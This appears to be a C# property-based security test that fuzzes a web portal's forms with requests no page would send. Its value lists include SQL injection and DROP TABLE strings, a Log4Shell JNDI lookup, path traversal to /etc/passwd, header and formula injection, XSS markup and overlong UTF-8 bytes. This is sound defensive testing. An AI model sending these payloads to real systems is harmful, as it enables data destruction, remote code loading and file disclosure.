using CsCheck;

namespace CooperationPortal.Web.Tests.Security;

/// <summary>Where a value is put.</summary>
internal enum Place
{
    /// <summary>In the place of what the form or address has.</summary>
    Instead,

    /// <summary>As well as what it has.</summary>
    Beside,

    /// <summary>Under a name that a list or a part of the field would have.</summary>
    Within,

    /// <summary>In the address although the form has it, or in the form although the address has it.</summary>
    Elsewhere,
}

/// <summary>How the body travels.</summary>
internal enum Travel
{
    Form,
    Multipart,
    MultipartAsUtf16,
    FormAsUtf16,
    Json,
    Text,
}

/// <summary>One field with a value that no page sends.</summary>
internal sealed record Twist(int Field, Place Place, string Value);

/// <summary>A request that no page sends, as numbers and texts, so that it can be printed and sent again.</summary>
internal sealed record HostileCase(IReadOnlyList<Twist> Twists, Travel Travel);

/// <summary>Makes requests that no page sends (SEC-37, SEC-38).</summary>
internal static class HostileGen
{
    private static readonly Gen<string> Numbers = Gen.OneOf(
        "0", "-1", "1", "2147483647", "2147483648", "-2147483648", "9223372036854775807", "99999999999999999999999999", "1e308", "1E-7", "NaN", "Infinity", "-0",
        "0x10", "１２", "１２．５", "1.5", "1,000", "007", "+1", " 1 ", "1\u00A0", "\u0661\u0662", "五", "½");

    private static readonly Gen<string> Dates = Gen.OneOf(
        "0001-01-01", "0001-01-02", "9999-12-31", "9999-12-30", "1899-12-31", "2262-04-12", "0000-00-00", "2026-02-30", "2026-02-29", "10000-01-01", "-0001-01-01", "2026-13-01",
        "2026-11-24T25:61", "2026-11-24T10:00:00Z", "2026年11月24日", "99991231", "0001-01", "9999-12", "2026-00", "2026-13", "24:00", "99:99", "23:59:59.9999999", "-1:00");

    private static readonly Gen<string> Texts = Gen.OneOf(
        "", " ", "\u3000", "\t", "\r\n", "null", "undefined", "true", "on", "[]", "{}", "{\"a\":1}", "00000000-0000-0000-0000-000000000000", "' OR 1=1--", "%", "_", "[", "\\", "';DROP TABLE Tasks;--",
        "{0}{1}{99}", "%s%n%x", "${jndi:ldap://e.example/a}", "../../etc/passwd", "..\\..\\win.ini", "/dev/null", "CON", "<b xss>", "&lt;b&gt;", "a\r\nSet-Cookie: x=1", "=1+1", "@SUM(1)",
        "\u202Egnp.exe", "\u2066\u2067\u2069", "\u200B", "\uFEFF", "\uFFFD", "\uFFFE", "\uDBFF", "\uDC00", "a\uD83D", "👨‍👩‍👧‍👦", "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307", "ﷺ", "İıſK", "\u0001", "\u007F", "\u0085", "\u001B[2J");

    // Bytes that are no text: a lone byte, two overlong signs, half of a pair, a sign cut off, a sign beyond the last.
    private static readonly Gen<string> Bytes = Gen.OneOf(
        "%FF", "%C0%AF", "%E0%80%AF", "%ED%A0%80", "%ED%A0%BD%ED%B8%80", "%E9%9D", "%F4%90%80%80", "%80", "%00", "a%00b", "%", "%%", "%zz", "%u0041", "%25%30%30").Select(text => Hostile.Raw + text);

    private static readonly Gen<string> Long = Gen.Select(
        Gen.OneOf("a", "长", "1", " ", "\n", "<", "\u0301", "😀", "'", "9", "a@", "("), Gen.OneOf(51, 101, 201, 257, 513, 1001, 1500, 2049, 9001), (sign, times) => string.Concat(Enumerable.Repeat(sign, times)));

    private static readonly Gen<string> Plain = Gen.OneOf("2026-12-01", "2026-12-20", "1", "10", "true", "推进合作", "Alpha 3", "jh-commerce", "10:30");

    private static readonly Gen<string> Anything = Gen.String[0, 40];

    private static readonly Gen<Twist> Twisted = Gen.Select(
        Gen.Int[0, 999],
        Gen.OneOf(Place.Instead, Place.Instead, Place.Instead, Place.Instead, Place.Beside, Place.Within, Place.Elsewhere),
        Gen.OneOf(Numbers, Dates, Dates, Texts, Texts, Bytes, Long, Anything, Plain, Plain),
        (field, place, value) => new Twist(field, place, value));

    public static readonly Gen<HostileCase> Case = Gen.Select(
        Twisted.List[1, 3],
        Gen.OneOf(Travel.Form, Travel.Form, Travel.Form, Travel.Form, Travel.Form, Travel.Multipart, Travel.MultipartAsUtf16, Travel.FormAsUtf16, Travel.Json, Travel.Text),
        (twists, travel) => new HostileCase(twists, travel));
}
